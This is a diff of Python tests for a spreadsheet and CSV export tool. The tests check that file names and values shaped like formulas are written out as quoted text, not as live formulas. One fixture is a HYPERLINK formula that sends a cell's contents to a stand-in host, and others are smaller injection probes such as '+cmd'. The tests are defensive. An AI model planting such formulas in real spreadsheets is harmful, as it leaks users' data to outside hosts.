@@ -77,3 +77,41 @@ def test_a_name_cp932_cannot_hold_is_an_error_not_a_question_mark(
     with pytest.raises(InvalidInput, match="utf-8-sig"):
         write_csv(readings, tmp / "s.csv", template, encoding="cp932")
     assert not (tmp / "s.csv").exists()
+
+
+HOSTILE_NAME = '=HYPERLINK("http:\\\\example.invalid\\?leak="&A3,"詳細").pdf'  # no "/" in names
+
+
+def test_a_file_named_like_a_formula_is_text_in_the_workbook(
+    template: FormTemplate, tmp: Path
+) -> None:
+    import zipfile
+
+    readings = [_reading(template, f"/scans/{HOSTILE_NAME}", name="-1+2")]
+    path = write_workbook(readings, tmp / "out.xlsx", template,
+                          failures=[("@SUM(A1).pdf", "=1+1")])
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in sheet for sheet in sheets)
+    book = load_workbook(path)
+    summary = book["一覧"]
+    cell = summary.cell(2, 1)
+    assert cell.data_type == "s" and cell.value == "'" + HOSTILE_NAME
+    assert summary.cell(3, 1).value == "'@SUM(A1).pdf" and summary.cell(3, 6).value == "'=1+1"
+    name_column = [c.value for c in summary[1]].index("氏名") + 1
+    assert summary.cell(2, name_column).value == "'-1+2"
+    assert summary.cell(2, 2).value == 1 and summary.cell(2, 2).data_type == "n"
+    assert book["氏名"].cell(2, 1).value == "'" + HOSTILE_NAME
+
+
+def test_a_file_named_like_a_formula_starts_with_a_quote_in_the_csv(
+    template: FormTemplate, tmp: Path
+) -> None:
+    import csv
+
+    readings = [_reading(template, f"/scans/{HOSTILE_NAME}")]
+    path = write_csv(readings, tmp / "out.csv", template, failures=[("\t=1.pdf", "+cmd")])
+    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+    assert rows[1][0] == "'" + HOSTILE_NAME
+    assert rows[2][0] == "'\t=1.pdf" and rows[2][5] == "'+cmd"
+    assert rows[1][1] == "1"  # the page number is still a plain number
